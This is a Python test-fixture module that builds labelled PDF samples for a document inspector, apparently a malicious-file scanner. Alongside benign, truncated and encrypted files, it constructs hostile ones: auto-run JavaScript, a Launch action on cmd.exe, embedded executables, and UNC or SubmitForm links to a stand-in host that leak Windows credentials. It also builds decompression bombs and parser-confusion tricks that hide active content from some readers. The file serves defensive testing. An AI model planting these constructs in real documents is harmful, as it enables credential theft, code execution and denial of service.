"""PDFs: as offices and scanners make them, protected, cut, active, exploding."""

from __future__ import annotations

import io
from collections.abc import Iterator

from fpdf import FPDF
from pypdf import PdfReader, PdfWriter

from tests.documents.inspection import pdf_builder
from tests.documents.inspection.building import ELF, PE, picture, saved
from tests.documents.inspection.pdf_builder import deflated, pdf, stream, zeros

PDF = "application/pdf"


_FIRST = (
    ("line", b"Content-Disposition: attachment; filename=don.pdf\r\n\r\n"),
    ("lines", "Kính gửi Ủy ban nhân dân phường\n".encode() * 20),
    ("marked-line", b"\xef\xbb\xbfHTTP/1.1 200 OK\n"),
    ("printer-job", b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n"),
    ("latin-line", "Bản số 1: être\n".encode("latin-1", "replace")),
    ("mail", b"From: mai@example.vn\r\n\r\n"),
    ("words", b"Ban sao "),
    ("blank-marked", b"\xef\xbb\xbf\r\n\0"),
)
"""What stands before a PDF where a program saved more than the file: readers search a kilobyte for its beginning."""


def rows() -> Iterator[tuple[str, bytes, str, str]]:
    """Name, content, media type, reason."""
    yield from _usable()
    yield from _broken()
    yield from _active()
    yield from _pointing()
    yield from _bombs()


def _printed(pages: int = 2) -> bytes:
    document = FPDF()
    document.set_font("helvetica", size=12)
    for page in range(pages):
        document.add_page()
        document.cell(text=f"Don de nghi, trang {page + 1}")
    return bytes(document.output())


def _usable() -> Iterator[tuple[str, bytes, str, str]]:
    printed = _printed()
    writer = PdfWriter(clone_from=io.BytesIO(printed))
    writer.add_metadata({"/Title": "Tờ khai /JavaScript"})
    jpeg = saved(picture(), "JPEG")
    yield "printed.pdf", printed, PDF, ""
    yield "by-hand.pdf", pdf(pages=3), PDF, ""
    yield "four-pages.pdf", pdf(pages=4), PDF, ""
    yield "scanned.pdf", pdf_builder.scan(jpeg, 96, 64), PDF, ""
    yield "linked.pdf", pdf_builder.linked(), PDF, ""
    yield "speaks-of-javascript.pdf", _written(writer), PDF, ""
    yield "blank-line-first.pdf", b"\r\n" + printed, PDF, ""
    for name, first in _FIRST:
        yield f"{name}-first.pdf", first + printed, PDF, ""
    yield "blank-behind.pdf", printed + b"\r\n" * 900, PDF, ""
    yield "changes-forbidden.pdf", pdf_builder.protected(""), PDF, ""
    yield "changes-forbidden-old.pdf", pdf_builder.protected("", algorithm="RC4-128"), PDF, ""
    for algorithm in ("RC4-128", "AES-128", "AES-256-R5", "AES-256"):
        yield f"no-passwords-{algorithm}.pdf", pdf_builder.protected("", "", algorithm), PDF, ""
    yield "invoice.pdf", pdf_builder.attached("hoa-don.xml", b"<?xml version='1.0'?><hoadon/>"), PDF, ""
    yield "link-by-reference.pdf", pdf(b"<</S 5 0 R/URI(https://a.vn)>>", b"/URI"), PDF, ""
    rewritten = pdf_builder.two_catalogues(*[b"<</Type/Catalog/Pages 2 0 R>>"] * 2)
    yield "rewritten-catalogue.pdf", rewritten, PDF, ""
    yield "speaks-of-objects.pdf", pdf(stream(b"1 0 obj <</S 7 0 R 8 0 obj<<[((1 0 obj")), PDF, ""
    yield "sorted-portfolio.pdf", pdf(b"<</Type/CollectionSort/S[/Name]>>"), PDF, ""
    yield "link-to-nothing.pdf", pdf(*[b"<</S 99 0 R/Type 98 0 R>>"] * 50, stream(b"\x11" * 9_000)), PDF, ""
    yield "wrong-start.pdf", printed.replace(b"startxref\n", b"startxref\n9"), PDF, ""  # readers repair it


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _broken() -> Iterator[tuple[str, bytes, str, str]]:
    printed = _printed()
    appended = PdfWriter(PdfReader(io.BytesIO(printed)), incremental=True)
    appended.add_blank_page(9, 9)
    linearized = pdf(b"<</Linearized 1/L 999999/H[1 2]>>", before=b"")
    linearized = linearized.replace(b"%PDF-1.7\n", b"%PDF-1.7\n9 0 obj<</Linearized 1/L 999999>>endobj\n")
    yield "half.pdf", printed[: len(printed) // 2], PDF, "truncated"
    yield "no-end.pdf", printed[: printed.rindex(b"%%EOF")], PDF, "truncated"
    yield "no-index.pdf", b"%PDF-1.7\n%%EOF\n", PDF, "truncated"
    yield "appended-cut.pdf", printed + b"7 0 obj\n<</Length 4000>>stream\n" + b"q\n" * 2000, PDF, "truncated"
    yield "linearized-cut.pdf", linearized, PDF, "truncated"
    yield "no-pages.pdf", pdf(pages=0), PDF, "damaged"
    yield "line-first-cut.pdf", b"Trang 1\r\n" + printed[: len(printed) // 2], PDF, "truncated"
    yield "rubbish.pdf", b"%PDF-1.7\n" + b"\x9c" * 500 + b"startxref\n5\n%%EOF", PDF, "damaged"
    yield "password.pdf", pdf_builder.protected("mat khau"), PDF, "encrypted"
    yield "password-aes128.pdf", pdf_builder.protected("mat khau", algorithm="AES-128"), PDF, "encrypted"
    for algorithm in ("AES-256-R5", "AES-256"):
        yield f"password-of-user-{algorithm}.pdf", pdf_builder.protected("mat khau", "", algorithm), PDF, "encrypted"
    yield "password-rc4.pdf", pdf_builder.protected("mat khau", algorithm="RC4-40"), PDF, "encrypted"


def _active() -> Iterator[tuple[str, bytes, str, str]]:
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    yield "javascript.pdf", pdf(script, catalogue=b"/OpenAction 4 0 R"), PDF, "active_content"
    yield "javascript-inline.pdf", pdf(catalogue=b"/OpenAction%s" % script), PDF, "active_content"
    yield "javascript-spelt.pdf", pdf(b"<</S/J#61v#61Script/J#53(1)>>"), PDF, "active_content"
    yield "javascript-packed.pdf", pdf_builder.in_object_stream(script), PDF, "active_content"
    yield "javascript-names.pdf", pdf(catalogue=b"/Names<</JavaScript<</Names[]>>>>"), PDF, "active_content"
    yield "launch.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>", catalogue=b"/OpenAction 4 0 R"), PDF, "active_content"
    yield from _active_by_reference()
    yield from _active_where_readers_differ()
    yield "rich-media.pdf", pdf(b"<</Type/Annot/Subtype/RichMedia>>"), PDF, "active_content"
    yield "xfa.pdf", pdf(catalogue=b"/AcroForm<</XFA[(template)4 0 R]>>"), PDF, "active_content"
    yield "carries-exe.pdf", pdf_builder.attached("hoa-don.exe", b"anything"), PDF, "active_content"
    yield "carries-renamed-exe.pdf", pdf_builder.attached("hoa-don.txt", PE), PDF, "active_content"
    yield "carries-packed-elf.pdf", pdf(deflated(ELF)), PDF, "active_content"


def _active_where_readers_differ() -> Iterator[tuple[str, bytes, str, str]]:
    """Two catalogues of one number. Readers that follow the index take one, those that search the file the other."""
    clean, acts = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(1)>>>>"
    first = b"Ban sao\n"
    commented = pdf_builder.two_catalogues(clean, b"% Ban sao\n" + acts)
    yield "first-line-hides-last.pdf", pdf_builder.two_catalogues(clean, acts, before=first), PDF, "active_content"
    yield (
        "first-line-hides-first.pdf",
        pdf_builder.two_catalogues(acts, clean, first, from_pdf=True),
        PDF,
        "active_content",
    )
    yield (
        "wrong-index-hides-last.pdf",
        pdf_builder.two_catalogues(clean, acts, trailer=b"/Prev 3"),
        PDF,
        "active_content",
    )
    yield "comment-hides-last.pdf", commented, PDF, "active_content"


def _active_by_reference() -> Iterator[tuple[str, bytes, str, str]]:
    """What tells that it acts stands in another object than the action."""
    launch, named = b"<</S 5 0 R/F(cmd.exe)>>", b"<</Type/Filespec/F 5 0 R/UF 5 0 R/EF<</F 6 0 R>>>>"
    packed = pdf_builder.in_object_stream(b"/Launch", b"/OpenAction<</S 4 0 R/F(cmd.exe)>>")
    yield "launch-by-reference.pdf", pdf(launch, b"/Launch", catalogue=b"/OpenAction 4 0 R"), PDF, "active_content"
    yield "launch-by-references.pdf", pdf(launch, b"6 0 R", b"/Launch"), PDF, "active_content"
    yield "launch-of-another-generation.pdf", pdf(launch.replace(b"5 0", b"5 1"), b"/Launch"), PDF, "active_content"
    yield "launch-by-packed-reference.pdf", packed, PDF, "active_content"
    yield "rich-media-by-reference.pdf", pdf(b"<</Type/Annot/Subtype 5 0 R>>", b"/RichMedia"), PDF, "active_content"
    yield "carries-script-by-reference.pdf", pdf(named, b"(hoadon.vbs)", stream(b"x=1")), PDF, "active_content"


def _pointing() -> Iterator[tuple[str, bytes, str, str]]:
    """At another file, which may be on another computer: there Windows logs in, and gives away the password."""
    for name, target in (
        ("beside", b"(phu-luc.pdf)"),
        ("below", b"(phu luc/1.pdf)"),
        ("own-disk", b"(/c/giay-to/1.pdf)"),
        ("own-drive", b"(C:\\\\giay-to\\\\1.pdf)"),
        ("specified", b"<</Type/Filespec/F(phu-luc.pdf)/UF(phu-luc.pdf)>>"),
        ("nothing", b"null"),
    ):
        yield f"points-{name}.pdf", _opening(target), PDF, ""
    yield "flags.pdf", pdf(b"<</Type/Annot/Subtype/Link/F 4/Rect[0 0 9 9]>>"), PDF, ""
    yield "carries-odd-name.pdf", pdf(b"<</F(hoadon\x9f.exe)/EF<</F 5 0 R>>>>", stream(b"x")), PDF, "active_content"
    host = b"(\\\\\\\\xau.example\\\\x)"
    for name, target in (
        ("host", host),
        ("slashes", b"(//xau.example/x.pdf)"),
        ("mixed", b"( \\\\/xau.example/x.pdf)"),
        ("address", b"(file://xau.example/x.pdf)"),
        ("coded", b"<feff005c005c00780061>"),
        ("hex", b"<5c5c9f9f>"),
        ("specified", b"<</F(a.pdf)/UF%s>>" % host),
        ("specified-old", b"<</Type/F/DOS%s>>" % host),
        ("elsewhere", b"5 0 R"),
    ):
        yield f"points-to-{name}.pdf", _opening(target, b"<</Type/Filespec/F 6 0 R>>", host), PDF, "active_content"
    sent = b"<</S/SubmitForm/F<</FS/URL/F%s>>>>" % host
    yield "sends-to-host.pdf", pdf(sent), PDF, "active_content"
    yield "stream-of-host.pdf", pdf(stream(b"", b"/F%s" % host)), PDF, "active_content"


def _opening(target: bytes, *more: bytes) -> bytes:
    """On opening it, one goes to this file."""
    return pdf(b"<</S/GoToR/D[0/Fit]/F %s>>" % target, *more, catalogue=b"/OpenAction 4 0 R")


def _bombs() -> Iterator[tuple[str, bytes, str, str]]:
    once = zeros(300)
    entries = b"/Subtype/Image/Width 60000/Height 60000/Filter/JBIG2Decode"
    side = b"/Subtype 6 0 R/Width 5 0 R/Height 5 0 R/Filter/JBIG2Decode"
    many = pdf_builder.stream(b"1 0 " * 10, b"/Type/ObjStm/N 900000/First 4")
    hidden = many.replace(b"/ObjStm/N 900000", b" 5 0 R/N 6 0 R")
    yield "unfolds.pdf", pdf(stream(once, b"/Filter/FlateDecode")), PDF, "bomb"
    yield "unfolds-often.pdf", pdf(*[stream(zeros(200), b"/Filter/FlateDecode")] * 3), PDF, "bomb"
    yield "unfolds-twice.pdf", pdf(deflated(once).replace(b"/FlateDecode", b"[/FlateDecode/Fl]")), PDF, "bomb"
    yield "huge-picture.pdf", pdf(stream(b"\0", entries)), PDF, "bomb"
    yield "pages.pdf", pdf(pages=2_001), PDF, "bomb"
    yield "objects.pdf", pdf(*[b"0"] * 60_001), PDF, "bomb"
    yield "object-stream.pdf", pdf(many), PDF, "bomb"
    yield "object-stream-by-reference.pdf", pdf(hidden, b"/ObjStm", b"900000"), PDF, "bomb"
    yield "huge-picture-by-reference.pdf", pdf(stream(b"\0", side), b"60000", b"/Image"), PDF, "bomb"
    yield "unfolds-by-reference.pdf", pdf(stream(once, b"/Filter 5 0 R"), b"/FlateDecode"), PDF, "bomb"
    yield "ring.pdf", pdf(b"<</S 5 0 R>>", b"6 0 R", b"5 0 R"), PDF, "damaged"
    yield "nested.pdf", pdf(b"[" * 100_000), PDF, "bomb"
    yield "lying-index.pdf", pdf_builder.lying_index(400), PDF, "bomb"
